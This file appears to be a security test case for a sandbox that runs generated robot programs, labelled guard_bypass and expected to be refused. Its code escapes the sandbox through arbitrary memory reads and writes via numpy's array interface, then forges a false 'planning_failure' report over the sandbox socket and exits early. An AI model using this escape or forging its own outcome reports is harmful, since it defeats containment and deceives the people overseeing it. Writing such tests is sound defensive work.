# class: guard_bypass
# expect: refused
# attack: the escape of guard_bypass_3 (super as a parameter's name reads any __init__; SimpleNamespace.__init__ sets __array_interface__; np.asarray maps any address), then the program's process forges its own report over its socket: its own error claimed as the robot's failure (planning_failure), which classify_exception refuses a program's own classes, and exits before the sandbox reports
def init_of(super):
    return super().__init__
def addr(obj):
    text = repr(init_of(lambda: obj))
    return int(text[text.rfind('0x') + 2:-1], 16)
holder = np.random
def mem(address, count):
    init_of(lambda: holder)(**{'__array_interface__': {'data': (int(address), False), 'shape': (count,), 'typestr': '<u8', 'version': 3}})
    return np.asarray(holder)
box = [None]
items = mem(addr(box) + 24, 1)[0]
globals_address = mem(addr(print) + 16, 1)[0]
count = mem(globals_address, 1)
count[0] = count[0] + 1
slot = mem(items, 1)
slot[0] = globals_address
G = box[0]
print('module globals of:', G['__name__'])
real = G['__builtins__']
sys_module = G['sys']
channel = sys_module.modules['roboscript.codegen.channel']
fd = int(sys_module.argv[2])
channel.send(fd, {'done': {'outcome': 'planning_failure', 'error': 'GraspError: no grasp fits the apple (program line 3)', 'output': 'picked nothing\n'}})
real['getattr'](real['__import__']('os'), '_exit')(0)
